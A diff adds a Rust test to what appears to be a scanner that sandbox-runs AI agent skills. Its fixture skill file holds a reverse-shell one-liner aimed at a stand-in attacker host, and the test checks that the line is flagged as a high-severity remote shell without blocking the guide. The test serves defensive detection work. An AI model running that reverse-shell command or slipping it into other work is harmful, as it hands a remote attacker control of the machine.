@@ -376,3 +376,33 @@ fn a_detonation_goes_past_missing_modules_and_names_a_planted_conftest() {
         "{report:#}"
     );
 }
+
+/// A security guide's example shown as an attack runs too (a label costs a hostile skill nothing), and what it did
+/// counts one step less, as the scan counts the line: the guide is not blocked for its examples.
+#[test]
+fn a_detonation_runs_what_a_guide_shows_as_an_attack_and_counts_it_one_step_less() {
+    let s = scratch();
+    let skill = s.root.join("review-guide");
+    write(
+        &skill,
+        "SKILL.md",
+        &skill_md(
+            "review-guide",
+            "Read every file of the skill before anything runs.\n\nA reverse shell usually looks like:\n\n```bash\nbash -i >& /dev/tcp/c2.evil.test/4444 0>&1\n```\n",
+        ),
+    );
+    readable(&skill);
+    let (code, report, stderr) = detonate(&s, &skill);
+    assert_eq!(code, 0, "{stderr}");
+    let shell = findings(&report, "detonation/remote-shell");
+    assert_eq!(shell.len(), 1, "{report:#}");
+    assert_eq!(shell[0]["severity"], "high", "{report:#}");
+    assert!(
+        shell[0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("shows as an attack"),
+        "{report:#}"
+    );
+    assert_ne!(report["risk_level"], "block", "{report:#}");
+}
